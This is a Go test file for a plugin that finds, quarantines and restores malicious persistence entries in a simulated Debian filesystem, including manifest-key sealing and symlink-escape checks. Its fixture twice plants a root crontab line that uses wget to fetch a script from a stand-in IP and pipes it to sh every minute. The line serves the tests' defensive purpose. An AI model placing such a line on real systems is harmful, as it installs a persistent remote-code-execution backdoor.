package persistplugin

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/abusekit/abusekit/playbook/plugintest"
	"github.com/abusekit/abusekit/plugins/persist"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

func TestFindCleanRestoreActions(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	tree := hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)
	if err := hosttest.Write(dir, tree); err != nil {
		t.Fatal(err)
	}
	acts := NewPlugin()

	found, err := plugintest.Apply[FindOutput](ctx, acts["find"], FindInput{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	if len(found.Findings) != 1 || found.Findings[0].Path != "/etc/crontab" || found.Findings[0].Severity != persist.Critical {
		t.Fatalf("find: %+v", found)
	}
	if found.Counts["info"] == 0 {
		t.Errorf("counts: %v", found.Counts)
	}

	plan, err := plugintest.Plan(ctx, acts["clean"], CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan.Changes) != 1 || plan.Changes[0].Target != "/etc/crontab" || !strings.Contains(plan.Changes[0].Detail, "line 24") {
		t.Fatalf("clean plan: %+v", plan)
	}
	before, _ := os.ReadFile(filepath.Join(dir, "etc/crontab"))
	if strings.Count(string(before), "203.0.113.7") != 1 {
		t.Fatal("plan changed the root")
	}

	out, err := plugintest.Apply[CleanOutput](ctx, acts["clean"], CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if out.ManifestPath == "" {
		t.Fatalf("clean: %+v", out)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); strings.Contains(string(b), "203.0.113.7") {
		t.Fatal("clean did not remove the line")
	}

	rp, err := plugintest.Plan(ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath})
	if err != nil || len(rp.Changes) != 1 {
		t.Fatalf("restore plan: %+v, %v", rp, err)
	}
	res, err := plugintest.Apply[RestoreOutput](ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath})
	if err != nil || len(res.Restored) != 1 {
		t.Fatalf("restore: %+v, %v", res, err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); string(b) != string(before) {
		t.Fatal("restore is not byte-identical")
	}
}

// Sentinels keep their identity across the process boundary.
func TestErrorsCrossTheBoundary(t *testing.T) {
	ctx := context.Background()
	_, err := plugintest.Apply[RestoreOutput](ctx, NewPlugin()["restore"], RestoreInput{Manifest: filepath.Join(t.TempDir(), "missing.json")})
	if !errors.Is(err, persist.ErrBadManifest) {
		t.Errorf("missing manifest: %v", err)
	}
	dir := t.TempDir()
	if err := hosttest.Write(dir, hosttest.Tree{{Path: "/etc/passwd", Data: "root:x:0:0::/root:/bin/bash\n"}, {Path: "/etc/escape", Link: "../../../../../../.."}}); err != nil {
		t.Fatal(err)
	}
	_, err = plugintest.Apply[FindOutput](ctx, NewPlugin()["find"], FindInput{Root: dir, Min: "extreme"})
	if err == nil {
		t.Error("bad severity accepted")
	}
	// A manifest naming a path whose directory became, after the clean,
	// a link that climbs out of the root.
	if err := hosttest.Write(dir, hosttest.Tree{{Path: "/etc/d/x", Link: "y"}}); err != nil {
		t.Fatal(err)
	}
	ar, err := persist.Apply(ctx, &persist.CleanPlan{Root: dir, Changes: []persist.Change{{Path: "/etc/d/x", Op: persist.OpUnlink}}}, persist.ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(dir, "etc/d")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../../../../../../..", filepath.Join(dir, "etc/d")); err != nil {
		t.Fatal(err)
	}
	_, err = plugintest.Apply[RestoreOutput](ctx, NewPlugin()["restore"], RestoreInput{Manifest: ar.ManifestPath})
	if !errors.Is(err, persist.ErrSymlinkEscape) {
		t.Errorf("escape: %v", err)
	}
}

// A caller's manifest key: clean seals with it, restore needs it (a
// missing or wrong key is persist.ErrBadManifest across the boundary).
func TestCleanRestoreWithManifestKey(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	if err := hosttest.Write(dir, hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)); err != nil {
		t.Fatal(err)
	}
	acts := NewPlugin()
	key := "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
	out, err := plugintest.Apply[CleanOutput](ctx, acts["clean"], CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir(), ManifestKey: key})
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"", "ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100"} {
		if _, err := plugintest.Apply[RestoreOutput](ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath, ManifestKey: k}); !errors.Is(err, persist.ErrBadManifest) {
			t.Errorf("restore with key %q: %v", k, err)
		}
	}
	if _, err := plugintest.Apply[RestoreOutput](ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath, ManifestKey: "zz"}); !errors.Is(err, persist.ErrManifestKey) {
		t.Errorf("restore with a bad key: %v", err)
	}
	res, err := plugintest.Apply[RestoreOutput](ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath, ManifestKey: key})
	if err != nil || len(res.Restored) != 1 {
		t.Fatalf("restore: %+v %v", res, err)
	}
}
